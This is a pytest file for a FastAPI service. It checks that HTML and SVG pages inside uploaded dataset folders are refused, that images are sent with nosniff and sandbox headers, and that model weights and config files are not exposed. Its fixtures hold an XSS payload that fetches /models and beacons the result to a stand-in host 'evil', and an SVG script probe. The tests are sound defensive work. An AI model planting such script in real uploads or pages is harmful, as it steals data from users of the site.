"""Issue 9 row 9: a page inside an uploaded dataset zip must not run as a page of the API's origin, and
/models/<id>/files/ serves plots, not weights."""

from __future__ import annotations

from fastapi.testclient import TestClient

from raysight.context import Platform

PAGE = "<html><script>fetch('/models').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil',t))</script>"
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'


def test_dataset_pages_and_svgs_are_not_served(client: TestClient, ctx: Platform) -> None:
    version = ctx.workspace.root / "datasets" / "ds_1" / "v1" / "images" / "train"
    version.mkdir(parents=True)
    (version / "x.html").write_text(PAGE)
    (version / "x.svg").write_text(SVG)
    (version / "x.jpg.html").write_text(PAGE)
    (version / "a.jpg").write_bytes(b"\xff\xd8\xff\xe0 not really a jpeg <html><script>")
    for name in ("x.html", "x.svg", "x.jpg.html"):
        got = client.get(f"/datasets/ds_1/v1/images/train/{name}")
        assert got.status_code == 404 and "<script>" not in got.text, name
    img = client.get("/datasets/ds_1/v1/images/train/a.jpg")
    assert img.status_code == 200
    assert img.headers["content-type"] == "image/jpeg"
    assert img.headers["x-content-type-options"] == "nosniff"  # no browser sniffs the bytes as html
    assert "sandbox" in img.headers["content-security-policy"]


def test_model_files_serve_plots_not_weights(client: TestClient, ctx: Platform) -> None:
    model = ctx.workspace.root / "models" / "m_1"
    (model / "weights").mkdir(parents=True)
    (model / "weights" / "best.pt").write_bytes(b"PK weights")
    (model / "results.png").write_bytes(b"\x89PNG plot")
    (model / "args.yaml").write_text("data: /abs/path/data.yaml")
    assert client.get("/models/m_1/files/weights/best.pt").status_code == 404
    assert client.get("/models/m_1/files/args.yaml").status_code == 404
    plot = client.get("/models/m_1/files/results.png")
    assert plot.status_code == 200 and plot.headers["content-type"] == "image/png"
    assert plot.headers["x-content-type-options"] == "nosniff"
